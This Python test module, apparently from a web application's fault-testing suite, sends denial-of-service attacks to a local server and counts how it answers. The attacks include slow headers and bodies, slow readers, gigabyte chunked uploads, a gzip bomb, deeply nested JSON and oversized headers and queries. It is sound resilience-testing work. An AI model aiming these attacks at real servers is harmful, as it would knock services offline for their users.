"""`python -m tests.faults.attackers NAME HOST PORT SECONDS`: one attack by raw connections, for so long.

Says at the end what it was answered, by status; `closed` where the connection ended without an answer.
"""

import asyncio
import gzip
import json
import resource
import sys
from collections import Counter
from collections.abc import Awaitable, Callable, Mapping
from contextlib import suppress
from dataclasses import dataclass, field
from uuid import UUID

HERE = "127.0.0.1"
FORM, PARTS, JSON = "application/x-www-form-urlencoded", "multipart/form-data; boundary=b", "application/json"
SIGN_IN = "/fr/sign-in-by-mail"
NEWS = f"/api/v1/back-office/campaigns/{UUID(int=1)}/news"
GIGABYTE = 1_000_000_000
CHUNK = b"x" * 65_536


@dataclass
class Attacker:
    """`cookie` is the token of a form, which anyone has with their first page."""

    host: str
    port: int
    cookie: str = ""
    answers: Counter[str] = field(default_factory=Counter)

    async def prepare(self) -> None:
        answer = (
            await self.ask(self.head("GET", "/fr/signed-out", "connection: close"), whole=True)
        ).decode()
        self.cookie = answer.partition("__Host-csrf=")[2].partition(";")[0]
        self.answers.clear()

    def head(self, method: str, path: str, *headers: str) -> bytes:
        lines = [f"{method} {path} HTTP/1.1", f"host: {self.host}", f"cookie: __Host-csrf={self.cookie}"]
        return "\r\n".join([*lines, *headers, "", ""]).encode()

    async def ask(self, request: bytes, *, whole: bool = False, limit: int = 65_536) -> bytes:
        """Send it all at once; the beginning of the answer, or the whole of it."""
        reader, writer = await asyncio.open_connection(HERE, self.port, limit=limit)
        answer = b""
        try:
            writer.write(request)
            answer = await (reader.read() if whole else reader.read(64))
        except ConnectionError:
            pass
        finally:
            writer.close()
        self.note(answer)
        return answer

    def note(self, answer: bytes) -> None:
        self.answers[answer[9:12].decode() or "closed"] += 1

    async def trickle(self, beginning: bytes, piece: bytes) -> None:
        """A piece a second, or nothing at all, for as long as the connection is open; then again."""
        while True:
            with suppress(OSError):
                reader, writer = await asyncio.open_connection(HERE, self.port)
                writer.write(beginning)
                answer = asyncio.create_task(reader.read(64))
                with suppress(ConnectionError):
                    while piece and not answer.done():
                        writer.write(piece)
                        await writer.drain()
                        await asyncio.wait({answer}, timeout=1)
                with suppress(ConnectionError):
                    self.note(await answer)
                writer.close()

    async def unread(self, path: str) -> None:
        """Ask for a page and take nothing of it, until the connection ends."""
        while True:
            _, writer = await asyncio.open_connection(HERE, self.port, limit=1)
            writer.transport.pause_reading()  # type: ignore[attr-defined]
            writer.write(self.head("GET", path))
            self.answers["asked"] += 1
            await asyncio.sleep(20)
            writer.close()

    async def pour(self, path: str, kind: str) -> None:
        """A body in chunks, a gigabyte or as far as it is taken."""
        while True:
            reader, writer = await asyncio.open_connection(HERE, self.port)
            writer.write(self.head("POST", path, f"content-type: {kind}", "transfer-encoding: chunked"))
            answer, sent = asyncio.create_task(reader.read(64)), 0
            with suppress(ConnectionError):
                while sent < GIGABYTE and not answer.done():
                    writer.write(b"10000\r\n" + CHUNK + b"\r\n")
                    await writer.drain()
                    sent += len(CHUNK)
            with suppress(ConnectionError):
                self.note(await answer)
            writer.close()
            await asyncio.sleep(0.1)

    async def repeat(self, request: bytes) -> None:
        """Five a second."""
        while True:
            await self.ask(request)
            await asyncio.sleep(0.2)

    def post(self, path: str, kind: str, body: bytes, *headers: str) -> bytes:
        length = f"content-length: {len(body)}"
        return self.head("POST", path, f"content-type: {kind}", length, *headers) + body


Attack = Callable[[Attacker], list[Awaitable[None]]]


async def later(seconds: float, act: Callable[..., Awaitable[None]], *given: object) -> None:
    await asyncio.sleep(seconds)
    await act(*given)


def paced(
    a_second: float, times: int, act: Callable[..., Awaitable[None]], *given: object
) -> list[Awaitable[None]]:
    """One after the other: what is tried is to be slow, and not to come all at once."""
    return [later(number / a_second, act, *given) for number in range(times)]


PART = b'--b\r\ncontent-disposition: form-data; name="x"\r\n\r\n\r\n'

ATTACKS: Mapping[str, Attack] = {
    "idle sockets": lambda one: paced(1_000, 3_000, one.trickle, b"", b""),
    "slow headers": lambda one: paced(500, 500, one.trickle, b"GET / HTTP/1.1\r\n", b"x: y\r\n"),
    "slow bodies": lambda one: paced(
        20,
        300,
        one.trickle,
        one.head("POST", SIGN_IN, f"content-type: {FORM}", "content-length: 9999"),
        b"x",
    ),
    "slow readers": lambda one: [
        *paced(5, 200, one.unread, "/fr/"),
        *paced(5, 20, one.unread, "/fr/open-data/campaigns.csv"),
    ],
    "a gigabyte in chunks": lambda one: [
        one.pour(SIGN_IN, FORM),
        one.pour(SIGN_IN, PARTS),
        one.pour(NEWS, JSON),
    ],
    "packed zeros": lambda one: [
        one.repeat(one.post(SIGN_IN, FORM, gzip.compress(bytes(GIGABYTE // 10)), "content-encoding: gzip"))
    ],
    "ten thousand parts": lambda one: [one.repeat(one.post(SIGN_IN, PARTS, PART * 10_000 + b"--b--\r\n"))],
    "ten thousand fields": lambda one: [one.repeat(one.post(SIGN_IN, FORM, b"x=&" * 10_000))],
    "deep JSON": lambda one: [one.repeat(one.post(NEWS, JSON, b"[" * 200_000))],
    "huge headers": lambda one: [one.repeat(one.head("GET", "/fr/", f"x-a: {'a' * 1_000_000}"))],
    "a huge query": lambda one: [
        one.repeat(one.head("GET", f"/fr/search?q={'a' * 60_000}")),
        one.repeat(one.head("GET", f"/fr/?{'a=b&' * 15_000}")),
    ],
}


async def attack(name: str, host: str, port: int, seconds: float) -> Counter[str]:
    attacker = Attacker(host, port)
    await attacker.prepare()
    with suppress(TimeoutError):
        async with asyncio.timeout(seconds), asyncio.TaskGroup() as together:
            for one in ATTACKS[name](attacker):
                together.create_task(one)  # type: ignore[arg-type]
    return attacker.answers


def main() -> None:
    name, host, port, seconds = sys.argv[1:]
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    print(json.dumps(asyncio.run(attack(name, host, int(port), float(seconds)))))  # noqa: T201 (to who measures)


if __name__ == "__main__":
    main()
